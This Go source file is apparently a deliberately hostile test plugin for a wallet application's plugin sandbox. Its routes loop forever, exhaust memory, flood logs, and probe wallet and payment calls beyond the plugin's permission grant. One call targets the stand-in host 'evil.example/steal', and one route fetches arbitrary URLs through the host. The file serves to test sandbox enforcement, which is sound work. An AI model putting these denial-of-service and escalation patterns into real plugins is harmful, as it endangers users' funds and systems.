// Command hostile is a test plugin that misbehaves on purpose. Its config
// key "mode" picks what it does on every event, and each route does one
// thing: /loop loops forever, /bomb allocates without end, /panic panics,
// /escalate calls beyond its grant and reports what the host answered,
// /fetch?url= fetches a URL through the host, /config answers its config,
// /delegate keeps a budgeted credential of its caller, /spend pays with
// it, /revoke ends it; /logflood logs 300 lines, /sign has the instance sign a note (nostr:sign),
// /receive makes an invoice into the wallet of header X-Wallet and reads it
// back (wallet:receive-any, wallet:read-any), reporting what the host said,
// and a path under /.well-known/ answers itself.
package main

import (
	"encoding/json"
	"net/url"
	"strconv"
	"strings"

	"github.com/hearthwallet/hearth/sdk"
)

var sink [][]byte

func loop() {
	n := 0
	for {
		n++
		if n < 0 {
			return
		}
	}
}

func bomb() {
	for {
		sink = append(sink, make([]byte, 1<<20))
		for i := range sink[len(sink)-1] {
			sink[len(sink)-1][i] = byte(i)
		}
	}
}

func misbehave(mode string) {
	switch mode {
	case "loop":
		loop()
	case "bomb":
		bomb()
	case "panic":
		panic("hostile plugin panics")
	}
}

func outcome(err error) string {
	if err == nil {
		return "ok"
	}
	if e, ok := err.(*sdk.Error); ok {
		return e.Code
	}
	return err.Error()
}

func init() {
	onEvent := func(sdk.Event) error {
		var cfg struct {
			Mode string `json:"mode"`
		}
		if err := sdk.Config(&cfg); err != nil {
			return err
		}
		misbehave(cfg.Mode)
		return nil
	}
	sdk.OnEvent(sdk.InvoiceSettled, onEvent)
	sdk.OnEvent(sdk.PaymentSettled, onEvent)
	sdk.HandleHTTP(func(r *sdk.Request) *sdk.Response {
		switch path := strings.TrimPrefix(r.Path, "/"); path {
		case "loop", "bomb", "panic":
			misbehave(path)
		case "escalate":
			res := map[string]string{}
			_, err := sdk.Wallet().Balance()
			res["wallet"] = outcome(err)
			_, err = sdk.CreateInvoice(sdk.NewInvoice{AmountMsat: 1000})
			res["create_invoice"] = outcome(err)
			_, err = sdk.Pay(sdk.PayRequest{Input: r.Header("X-Invoice")})
			res["pay"] = outcome(err)
			_, err = sdk.Payments(sdk.ListFilter{})
			res["payments"] = outcome(err)
			_, err = sdk.HTTP.Get("https://evil.example/steal")
			res["http"] = outcome(err)
			err = sdk.KV.Set("k", []byte("v"))
			res["kv"] = outcome(err)
			return sdk.JSON(200, res)
		case "sign":
			ev, err := sdk.SignNostr(sdk.NostrEvent{Kind: 1, Content: "from a plugin", Tags: [][]string{{"t", "hearth"}}})
			if err != nil {
				return sdk.JSON(403, map[string]string{"error": outcome(err)})
			}
			return sdk.JSON(200, ev)
		case "receive":
			res := map[string]string{}
			inv, err := sdk.Receive(r.Header("X-Wallet"), sdk.NewInvoice{AmountMsat: 1000, Tag: "hostile"})
			res["receive"] = outcome(err)
			if err == nil {
				_, err = sdk.ReceivedInvoice(r.Header("X-Wallet"), inv.ID)
				res["received_invoice"] = outcome(err)
				if inv.Tag != nil {
					res["tag"] = inv.Tag.Plugin + "/" + inv.Tag.Value
				}
			}
			return sdk.JSON(200, res)
		case "delegate":
			var spec sdk.BudgetSpec
			_ = json.Unmarshal(r.Body, &spec)
			d, err := sdk.Delegate(sdk.NewDelegation{Name: "allowance", Permissions: []string{"read:transaction", "write:transaction"},
				Budget: &spec})
			if err != nil {
				return sdk.JSON(403, map[string]string{"error": outcome(err)})
			}
			return sdk.JSON(200, d)
		case "spend":
			p, err := sdk.As(r.Header("X-Delegation")).Pay(sdk.PayRequest{Input: r.Header("X-Invoice")})
			if err != nil {
				return sdk.JSON(422, map[string]string{"error": outcome(err)})
			}
			return sdk.JSON(200, p)
		case "revoke":
			if err := sdk.RevokeDelegation(r.Header("X-Delegation")); err != nil {
				return sdk.JSON(404, map[string]string{"error": outcome(err)})
			}
			d, err := sdk.GetDelegation(r.Header("X-Delegation"))
			return sdk.JSON(200, map[string]any{"after": outcome(err), "delegation": d})
		case "logflood":
			for i := range 300 {
				sdk.Log.Info("flood " + strconv.Itoa(i))
			}
			return &sdk.Response{Status: 200}
		case "config":
			var cfg map[string]any
			if err := sdk.Config(&cfg); err != nil {
				return &sdk.Response{Status: 500}
			}
			return sdk.JSON(200, cfg)
		case "fetch":
			q, _ := url.ParseQuery(r.Query)
			resp, err := sdk.HTTP.Get(q.Get("url"))
			if err != nil {
				b, _ := json.Marshal(err)
				return &sdk.Response{Status: 502, Body: b}
			}
			return &sdk.Response{Status: resp.Status, Body: resp.Body}
		}
		if strings.HasPrefix(r.Path, "/.well-known/") {
			return &sdk.Response{Status: 200, Body: []byte(r.Path)}
		}
		return &sdk.Response{Status: 404}
	})
}

func main() {}
